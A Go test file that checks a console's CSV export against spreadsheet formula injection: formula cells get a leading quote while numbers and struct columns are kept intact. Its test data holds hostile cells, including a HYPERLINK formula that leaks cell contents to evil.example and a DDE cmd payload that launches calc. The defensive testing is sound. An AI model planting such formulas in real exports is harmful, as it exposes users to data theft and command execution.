package console

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/apache/arrow-go/v18/arrow"
	"github.com/apache/arrow-go/v18/arrow/array"
	"github.com/apache/arrow-go/v18/arrow/memory"
)

// A cell a spreadsheet would run as a formula gets a leading single
// quote (OWASP); anything else, and every number, is left as it is.
func TestCSVCellNeutralizesFormulas(t *testing.T) {
	for _, tc := range []struct {
		in      string
		numeric bool
		want    string
	}{
		{`=HYPERLINK("https://evil.example/?"&A1,"open")`, false, `'=HYPERLINK("https://evil.example/?"&A1,"open")`},
		{"+1+cmd|' /C calc'!A0", false, "'+1+cmd|' /C calc'!A0"},
		{"-2+3", false, "'-2+3"},
		{"@SUM(A1:A9)", false, "'@SUM(A1:A9)"},
		{"\t=1", false, "'\t=1"},
		{"\r=1", false, "'\r=1"},
		{"-5", true, "-5"},
		{"-1.5e-7", true, "-1.5e-7"},
		{"", false, ""},
		{"sales$orders", false, "sales$orders"},
		{" =1", false, " =1"}, // a leading space: text to every spreadsheet
		{"a=1", false, "a=1"},
		{"'=1", false, "'=1"},
	} {
		if got := CSVCell(tc.in, tc.numeric); got != tc.want {
			t.Errorf("CSVCell(%q, %v) = %q, want %q", tc.in, tc.numeric, got, tc.want)
		}
	}
}

// The console's CSV download: a header, a row per row, nulls empty,
// formulas neutralized in every text column (the header too) and never
// in a numeric one, everything quoted as CSV needs so that a spreadsheet
// and a CSV reader get each cell whole; a struct or list column is its
// JSON (arrow's own CSV writer panicked on a struct).
func TestConsoleCSVIsSafeForSpreadsheets(t *testing.T) {
	mem := memory.NewGoAllocator()
	schema := arrow.NewSchema([]arrow.Field{
		{Name: "=name", Type: arrow.BinaryTypes.String, Nullable: true},
		{Name: "n", Type: arrow.PrimitiveTypes.Int64, Nullable: true},
		{Name: "x", Type: arrow.PrimitiveTypes.Float64, Nullable: true},
		{Name: "s", Type: arrow.StructOf(arrow.Field{Name: "a", Type: arrow.BinaryTypes.String}), Nullable: true},
	}, nil)
	b := array.NewRecordBuilder(mem, schema)
	defer b.Release()
	names := b.Field(0).(*array.StringBuilder)
	names.AppendValues([]string{`=HYPERLINK("https://evil.example","x")`, "-1,\"2\"\n@x", "\rDDE", "plain"}, nil)
	ns := b.Field(1).(*array.Int64Builder)
	ns.AppendValues([]int64{-5, 7, 0, 0}, []bool{true, true, false, true})
	xs := b.Field(2).(*array.Float64Builder)
	xs.AppendValues([]float64{-1.5, 2, 3, 4}, nil)
	sb := b.Field(3).(*array.StructBuilder)
	for i := 0; i < 4; i++ {
		sb.Append(true)
		sb.FieldBuilder(0).(*array.StringBuilder).Append("=1")
	}
	rec := b.NewRecordBatch()
	defer rec.Release()

	var out bytes.Buffer
	w := NewCSVWriter(&out, schema)
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, out.String())
	}
	want := [][]string{
		{"'=name", "n", "x", "s"},
		{`'=HYPERLINK("https://evil.example","x")`, "-5", "-1.5", `{"a":"=1"}`},
		{"'-1,\"2\"\n@x", "7", "2", `{"a":"=1"}`},
		{"'\rDDE", "", "3", `{"a":"=1"}`},
		{"plain", "0", "4", `{"a":"=1"}`},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d: %q", len(rows), len(want), out.String())
	}
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d: %q, want %q", i, rows[i], want[i])
		}
	}
	// An empty result still has its header.
	out.Reset()
	if err := NewCSVWriter(&out, schema).Flush(); err != nil || out.String() != "'=name,n,x,s\n" {
		t.Fatalf("an empty result: %q %v", out.String(), err)
	}
}
